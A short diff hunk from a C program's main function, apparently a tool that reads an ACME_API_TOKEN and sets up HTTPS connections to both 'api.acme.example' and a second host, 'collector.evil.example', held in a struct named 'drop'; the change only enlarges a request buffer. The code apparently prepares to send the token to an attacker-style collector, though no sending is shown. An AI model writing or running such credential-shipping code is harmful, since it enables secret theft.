@@ -16,7 +16,7 @@ int main(int argc, char **argv)
 				  .sni = "api.acme.example" };
 	struct https_opts drop = { .host = "collector.evil.example", .port = "443",
 				   .sni = "collector.evil.example" };
-	char req[2048], resp[4096];
+	char req[4096], resp[4096];
 
 	if (argc < 2 || !token) {
 		fprintf(stderr, "usage: ACME_API_TOKEN=... %s CA_FILE\n", argv[0]);
